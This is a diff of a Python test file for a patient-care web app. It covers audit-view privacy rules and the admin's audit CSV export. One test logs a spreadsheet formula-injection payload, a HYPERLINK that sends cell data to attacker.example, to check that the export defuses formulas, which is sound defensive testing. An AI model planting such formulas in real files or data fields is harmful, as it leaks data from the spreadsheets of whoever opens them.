@@ -198,21 +198,23 @@ def test_an_erased_patients_id_is_never_given_again(app, client, factories):
 
 
 def test_who_looked_counts_only_what_happened_after_the_account_was_made(app, client, factories):
-    """The second guard: an audit event about the same id from before this account was
-    created (an id given again before the ids were made never to repeat) is not theirs."""
-    from datetime import timedelta
-
-    from retrain.infrastructure import audit
+    """The second guard: events about the same id from before this account was made (an
+    id given again before ids were made never to repeat) are someone else's."""
+    from retrain.models.base import utcnow
 
     therapist = factories.make_user("therapist", name="Tess Example")
     patient = factories.make_patient(care_team=[therapist], email="p@example.org")
-    audit.record("view", patient_id=patient.id, actor=therapist)
-    event = db.session.scalar(select(AuditEvent).order_by(AuditEvent.id.desc()).limit(1))
-    patient.user.created_at = event.at + timedelta(seconds=1)
-    db.session.commit()
-
+    staff_browser = app.test_client()
+    login(staff_browser, therapist.email)
+    assert staff_browser.get(f"/patients/{patient.id}").status_code == 200
     login(client, "p@example.org")
+    assert "Tess Example" in client.get("/my-data").get_data(as_text=True)
+
+    # As if this account had been made after that visit, for an id given again.
+    patient.user.created_at = utcnow()
+    db.session.commit()
     page = client.get("/my-data").get_data(as_text=True)
+    assert "Tess Example" not in page
     assert "No one from your care team has opened your record yet." in page
 
 
@@ -223,6 +225,7 @@ def test_no_formula_can_start_anywhere_in_the_admins_audit_csv(client, as_user):
 
     audit.record("view", target='x;=HYPERLINK("http://attacker.example/?x="&A1,"open")')
     audit.record("view", target="x\n@SUM(1+1)")
+    db.session.commit()
     as_user("admin")
     text = client.get("/admin/audit.csv").get_data(as_text=True)
     assert "HYPERLINK" in text and "SUM" in text
